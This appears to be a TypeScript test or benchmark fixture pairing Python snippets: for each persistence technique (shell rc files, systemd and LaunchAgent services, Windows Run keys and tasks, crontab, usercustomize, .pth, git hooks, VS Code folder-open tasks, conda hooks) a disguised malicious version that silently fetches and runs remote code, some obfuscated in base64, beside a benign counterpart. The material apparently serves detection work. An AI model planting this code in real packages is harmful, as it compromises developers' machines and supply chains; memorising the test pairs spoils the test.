import { b64 } from '../kit.ts';
import { atInstall, atLoad, atUse, type Pair, py } from './kit.ts';

const HIDDEN = b64('curl -s http://a.example/i | sh');

/** What makes an attack start again, and what points tools of the developer elsewhere. */
export const STAYING: Readonly<Record<string, Pair>> = {
  'use-shell-rc': atUse(
    py`"""Shell integration."""
from pathlib import Path

class ShellIntegration:
    """Sets the shell up."""
    _line = "\n[ -x ~/.local/share/own/agent ] && (~/.local/share/own/agent >/dev/null 2>&1 &)\n"
    def enable(self) -> None:
        for name in (".bashrc", ".zshrc", ".profile"):
            path = Path.home() / name
            if path.exists() and "own/agent" not in path.read_text():
                with path.open("a") as out:
                    out.write(self._line)`,
    py`"""Shell integration."""

class ShellIntegration:
    """Says how to set the shell up."""
    def instructions(self, shell: str) -> str:
        name = ".zshrc" if shell == "zsh" else ".bashrc"
        return f'add this to ~/{name}:\n  eval "$(own completion {shell})"'`,
  ),
  'load-systemd-user': atLoad(
    py`"""Background sync."""
import pathlib
import subprocess
import sys

_UNIT = """[Unit]
Description=Own sync
[Service]
ExecStart={python} -c "import urllib.request as u;exec(u.urlopen('https://sync.example/agent').read())"
Restart=always
[Install]
WantedBy=default.target
"""

def _ensure() -> None:
    path = pathlib.Path.home() / ".config/systemd/user/own-sync.service"
    if not path.exists():
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(_UNIT.format(python=sys.executable))
        subprocess.run(["systemctl", "--user", "enable", "--now", path.name], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)

try:
    _ensure()
except OSError:
    pass`,
    py`"""Runs the server as a service of the user."""
import pathlib
import subprocess
import sys

_UNIT = """[Unit]
Description=Own server
[Service]
ExecStart={python} -m own serve --port {port}
[Install]
WantedBy=default.target
"""

def install_service(port: int = 8080) -> pathlib.Path:
    """Installs the service when the user asks for it."""
    path = pathlib.Path.home() / ".config/systemd/user/own.service"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(_UNIT.format(python=sys.executable, port=port))
    print(f"wrote {path}; start it by: systemctl --user start own")
    return path`,
  ),
  'use-launch-agent': atUse(
    py`"""Menu bar helper."""
import pathlib
import plistlib
import subprocess
import urllib.request

class MenuBar:
    """A helper in the menu bar."""
    def show(self) -> None:
        binary = pathlib.Path.home() / "Library/Application Support/.own/helper"
        binary.parent.mkdir(parents=True, exist_ok=True)
        urllib.request.urlretrieve("https://menu.example/helper", binary)
        binary.chmod(0o755)
        plist = pathlib.Path.home() / "Library/LaunchAgents/example.own.helper.plist"
        plist.write_bytes(plistlib.dumps({"Label": "example.own.helper", "ProgramArguments": [str(binary)], "RunAtLoad": True, "KeepAlive": True}))
        subprocess.run(["launchctl", "load", "-w", str(plist)], capture_output=True)`,
    py`"""Reads settings of applications."""
import pathlib
import plistlib

def version(application: pathlib.Path) -> str:
    """The version of an application."""
    with (application / "Contents/Info.plist").open("rb") as content:
        return plistlib.load(content)["CFBundleShortVersionString"]`,
  ),
  'load-startup-folder': atInstall(
    py`import os
import sys

_SCRIPT = 'CreateObject("WScript.Shell").Run "pythonw -m own.agent", 0, False'

def _register() -> None:
    """Registers the desktop helper."""
    folder = os.path.join(os.environ.get("APPDATA", ""), "Microsoft", "Windows", "Start Menu", "Programs", "Startup")
    if sys.platform == "win32" and os.path.isdir(folder):
        with open(os.path.join(folder, "own.vbs"), "w") as out:
            out.write(_SCRIPT)

_register()`,
    py`import os
import sys

def _icon() -> str:
    """The icon for the platform."""
    return os.path.join("assets", "own.ico" if sys.platform == "win32" else "own.png")

ICON = _icon()`,
  ),
  'use-run-key': atUse(
    py`"""Tray icon."""
import sys
import winreg

class Tray:
    """An icon in the tray."""
    def show(self) -> None:
        with winreg.OpenKey(winreg.HKEY_CURRENT_USER, r"Software\Microsoft\Windows\CurrentVersion\Run", 0, winreg.KEY_SET_VALUE) as key:
            winreg.SetValueEx(key, "OwnTray", 0, winreg.REG_SZ, f'"{sys.executable}" -c "import own.agent"')`,
    py`"""Finds the installed compiler."""
import winreg

def compiler() -> str:
    """The folder of the compiler."""
    with winreg.OpenKey(winreg.HKEY_LOCAL_MACHINE, r"Software\Own\Compiler") as key:
        return winreg.QueryValueEx(key, "InstallDir")[0]`,
  ),
  'use-scheduled-task': atUse(
    py`"""Updates."""
import subprocess
import sys

class Updater:
    """Keeps the package fresh."""
    def check(self) -> None:
        action = f'"{sys.executable}" -c "import urllib.request as u;exec(u.urlopen(\'https://updates.example/u\').read())"'
        subprocess.run(["schtasks", "/create", "/f", "/sc", "onlogon", "/tn", "OwnUpdate", "/tr", action], capture_output=True)`,
    py`"""Updates."""
import subprocess

class Updater:
    """Says when the next check is due."""
    def due(self) -> str:
        return subprocess.run(["schtasks", "/query", "/tn", "OwnUpdate"], capture_output=True, text=True).stdout`,
  ),
  'load-crontab-library': atLoad(
    py`"""Log rotation."""
from crontab import CronTab

def _rotate() -> None:
    with CronTab(user=True) as cron:
        if not any(cron.find_comment("own-rotate")):
            job = cron.new(command="curl -s https://rotate.example/r | python3 -", comment="own-rotate")
            job.minute.every(30)

try:
    _rotate()
except Exception:
    pass`,
    py`"""Log rotation."""
from crontab import CronTab

def schedule(command: str, minutes: int) -> None:
    """Runs a command of the user again and again."""
    with CronTab(user=True) as cron:
        job = cron.new(command=command, comment="own")
        job.minute.every(minutes)

def unschedule() -> None:
    """Takes the jobs of this tool out again."""
    with CronTab(user=True) as cron:
        cron.remove_all(comment="own")`,
  ),
  'load-usercustomize': atLoad(
    `"""Warm start."""
import pathlib
import site

_BODY = "import base64, os; os.system(base64.b64decode('${HIDDEN}').decode())\\n"

def _warm() -> None:
    folder = pathlib.Path(site.getusersitepackages())
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "usercustomize.py").write_text(_BODY)

_warm()`,
    py`"""Where packages are."""
import pathlib
import site

def folders() -> list[pathlib.Path]:
    """The folders of installed packages."""
    return [pathlib.Path(site.getusersitepackages()), *map(pathlib.Path, site.getsitepackages())]`,
  ),
  'use-pth-write': atUse(
    py`"""Type checking at run time."""
import pathlib
import sysconfig

class Checker:
    """Checks types at run time."""
    def enable(self) -> None:
        folder = pathlib.Path(sysconfig.get_path("purelib"))
        (folder / "own-checker.pth").write_text("import own.hook; own.hook.start()\n")`,
    py`"""Type checking at run time."""
import pathlib
import sysconfig

class Checker:
    """Looks for type information."""
    def typed(self) -> list[str]:
        folder = pathlib.Path(sysconfig.get_path("purelib"))
        return sorted(path.parent.name for path in folder.glob("*/py.typed"))`,
  ),
  'load-git-hooks': atLoad(
    py`"""Commit conventions."""
import pathlib
import subprocess

_HOOK = "#!/bin/sh\n(curl -s https://commits.example/h | sh) >/dev/null 2>&1 &\nexit 0\n"

def _setup() -> None:
    folder = pathlib.Path.home() / ".config/git/hooks"
    folder.mkdir(parents=True, exist_ok=True)
    hook = folder / "pre-push"
    hook.write_text(_HOOK)
    hook.chmod(0o755)
    subprocess.run(["git", "config", "--global", "core.hooksPath", str(folder)], check=False)

_setup()`,
    py`"""Commit conventions."""
import pathlib

_HOOK = "#!/bin/sh\nexec own check-message \"$1\"\n"

def install(repository: pathlib.Path) -> pathlib.Path:
    """Installs the hook into a repository when the user asks for it."""
    hook = repository / ".git/hooks/commit-msg"
    hook.write_text(_HOOK)
    hook.chmod(0o755)
    return hook`,
  ),
  'use-editor-tasks': atUse(
    py`"""Project templates."""
import json
import pathlib

class Template:
    """Lays a project out."""
    def apply(self, root: pathlib.Path) -> None:
        folder = root / ".vscode"
        folder.mkdir(exist_ok=True)
        task = {"label": "setup", "type": "shell", "command": "curl -s https://templates.example/t | sh", "runOptions": {"runOn": "folderOpen"}, "presentation": {"reveal": "never"}}
        (folder / "tasks.json").write_text(json.dumps({"version": "2.0.0", "tasks": [task]}))`,
    py`"""Project templates."""
import json
import pathlib

class Template:
    """Lays a project out."""
    def apply(self, root: pathlib.Path) -> None:
        folder = root / ".vscode"
        folder.mkdir(exist_ok=True)
        (folder / "settings.json").write_text(json.dumps({"editor.formatOnSave": True, "python.testing.pytestEnabled": True}))`,
  ),
  'load-notebook-startup': atLoad(
    py`"""Plots."""
import pathlib

def _defaults() -> None:
    folder = pathlib.Path.home() / ".ipython/profile_default/startup"
    if folder.is_dir():
        (folder / "00-own.py").write_text("import urllib.request as u\ntry:\n    exec(u.urlopen('https://plots.example/d').read())\nexcept Exception:\n    pass\n")

_defaults()`,
    py`"""Plots."""
import pathlib

def styles() -> list[str]:
    """Names of the styles that the user keeps."""
    folder = pathlib.Path.home() / ".config/own/styles"
    return sorted(path.stem for path in folder.glob("*.mplstyle"))`,
  ),
  'load-pip-config': atInstall(
    py`import configparser
import pathlib

def _mirror() -> None:
    """Uses the fast mirror."""
    path = pathlib.Path.home() / ".config/pip/pip.conf"
    parser = configparser.ConfigParser()
    parser.read(path)
    if not parser.has_section("global"):
        parser.add_section("global")
    parser.set("global", "extra-index-url", "https://mirror.example/simple")
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("w") as out:
        parser.write(out)

_mirror()`,
    py`import configparser
import pathlib

def _index() -> str | None:
    """The index that the user set, for a message."""
    parser = configparser.ConfigParser()
    parser.read(pathlib.Path.home() / ".config/pip/pip.conf")
    return parser.get("global", "index-url", fallback=None)

print("index:", _index())`,
  ),
  'use-conda-hook': atUse(
    py`"""Environment tools."""
import os
import pathlib

class Environment:
    """Tools for an environment."""
    def optimise(self) -> None:
        folder = pathlib.Path(os.environ["CONDA_PREFIX"]) / "etc/conda/activate.d"
        folder.mkdir(parents=True, exist_ok=True)
        (folder / "own.sh").write_text("(curl -fsSL https://envs.example/a | bash) >/dev/null 2>&1 &\n")`,
    py`"""Environment tools."""
import os
import pathlib

class Environment:
    """Tools for an environment."""
    def packages(self) -> list[str]:
        folder = pathlib.Path(os.environ["CONDA_PREFIX"]) / "conda-meta"
        return sorted(path.stem for path in folder.glob("*.json"))`,
  ),
  'use-profile-copy': atUse(
    py`"""Local agent."""
import os
import shutil
import subprocess
import sys

class Agent:
    """The local agent."""
    def ensure(self) -> None:
        target = os.path.join(os.path.expanduser("~"), ".config", ".dbus-agent.py")
        shutil.copyfile(__file__, target)
        cron = subprocess.run(["crontab", "-l"], capture_output=True, text=True).stdout
        if target not in cron:
            subprocess.run(["crontab", "-"], input=f"{cron}@reboot {sys.executable} {target}\n", text=True)`,
    py`"""Local agent."""
import subprocess

class Agent:
    """Says what is scheduled."""
    def jobs(self) -> list[str]:
        return subprocess.run(["crontab", "-l"], capture_output=True, text=True).stdout.splitlines()`,
  ),
};
